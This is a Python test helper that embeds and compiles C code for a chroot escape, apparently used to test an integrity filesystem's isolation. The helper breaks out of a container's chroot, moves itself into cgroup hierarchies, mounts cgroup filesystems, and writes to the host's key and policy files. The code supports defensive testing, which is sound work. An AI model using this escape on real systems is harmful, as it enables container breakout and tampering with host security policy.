"""A static helper that breaks out of its chroot as a container root without
CAP_SYS_ADMIN can (issue 15 item 6: chroot() without chdir(), as perl can), then tries
every way to the binding's cgroup hierarchy and to the host's control files. Built by
the tests that perform the attack (tests/mount/test_binding.py under unshare + chroot,
tests/interop/test_runc.py under runc); they sign it so that appraisal lets it run.

argv: the mount's path as the helper sees it once out, a certificate path for the keys
file, the hierarchy's name (imafs.KEY: other mounts of the machine have hierarchies of
their own). It prints key=value lines: escaped, cgopen, cgmoved, mounted or mount,
tried, moved, keys, policy, read."""
from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

ESCAPE_C = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int tried, moved;

static void move_into(const char *dir) {
    char p[4096], b[32];
    snprintf(p, sizeof p, "%s/cgroup.procs", dir);
    int fd = open(p, O_WRONLY);
    if (fd < 0) { printf("cgopen=%s:errno%d\n", p, errno); return; }
    tried++;
    int n = snprintf(b, sizeof b, "%d\n", getpid());
    if (write(fd, b, n) == n) { moved++; printf("cgmoved=%s\n", p); }
    close(fd);
}

static const char *put(const char *path, const char *data) {
    static char res[64];
    int fd = open(path, O_WRONLY);
    if (fd < 0) { snprintf(res, sizeof res, "errno%d", errno); return res; }
    ssize_t w = write(fd, data, strlen(data));
    int c = close(fd);
    snprintf(res, sizeof res, "%s", w > 0 && c == 0 ? "written" : "refused");
    return res;
}

int main(int argc, char **argv) {
    const char *mnt = argv[1], *hier = argv[3];
    char p[4096], line[8192];
    struct stat st;
    /* out of the chroot: chroot() into a subdirectory, keep the cwd, climb */
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") != 0) { printf("chroot=errno%d\n", errno); return 1; }
    for (int i = 0; i < 64; i++) (void)chdir("..");
    if (chroot(".") != 0) { printf("chroot2=errno%d\n", errno); return 1; }
    snprintf(p, sizeof p, "%s/.imafs/policy", mnt);
    printf("escaped=%d\n", stat(p, &st) == 0);     /* the host's path to the mount */
    /* every imafs cgroup hierarchy this mount namespace has, and where it was */
    FILE *f = fopen("/proc/self/mountinfo", "r");
    while (f && fgets(line, sizeof line, f)) {
        char mp[4096];
        if (strstr(line, hier) && sscanf(line, "%*s %*s %*s %*s %4095s", mp) == 1)
            move_into(mp);
    }
    if (f) fclose(f);
    snprintf(p, sizeof p, "/run/imafs/cg/%s", hier + strlen("imafs."));
    if (stat(p, &st) == 0)
        move_into(p);
    /* the hierarchy mounted by the name /proc/self/cgroup shows */
    f = fopen("/proc/self/cgroup", "r");
    while (f && fgets(line, sizeof line, f)) {
        char name[256], opts[300], *n = strstr(line, hier);
        if (!n || sscanf(n - 5, "%255[^:\n]", name) != 1) continue;
        mkdir("/tmp/cgx", 0700);
        snprintf(opts, sizeof opts, "none,%s", name);
        if (mount("cgroup", "/tmp/cgx", "cgroup", 0, opts) == 0) {
            printf("mounted=%s\n", name);
            move_into("/tmp/cgx");
            umount("/tmp/cgx");
        } else printf("mount=errno%d\n", errno);
    }
    if (f) fclose(f);
    printf("tried=%d\nmoved=%d\n", tried, moved);
    /* the host's keyring and policy, by the host's path to the mount */
    snprintf(p, sizeof p, "%s/.imafs/keys", mnt);
    snprintf(line, sizeof line, "%s\n", argv[2]);
    printf("keys=%s\n", put(p, line));
    snprintf(p, sizeof p, "%s/.imafs/policy", mnt);
    printf("policy=%s\n", put(p, "measure func=MMAP_CHECK\n"));
    /* a read through the mount: whose list is it in? */
    snprintf(p, sizeof p, "%s/data/escaped", mnt);
    int fd = open(p, O_RDONLY);
    printf("read=%d\n", fd >= 0 && read(fd, line, 16) > 0);
    return 0;
}
"""


def build_escape(out: Path, tmp: Path) -> None:
    """Compile the helper statically to out (the test is skipped without a static
    C toolchain)."""
    src = tmp / "escape.c"
    src.write_text(ESCAPE_C)
    r = subprocess.run(["gcc", "-static", "-O1", "-o", str(out), str(src)],
                       capture_output=True, text=True)
    if r.returncode != 0:
        pytest.skip(f"no static build here: {r.stderr[-300:]}")
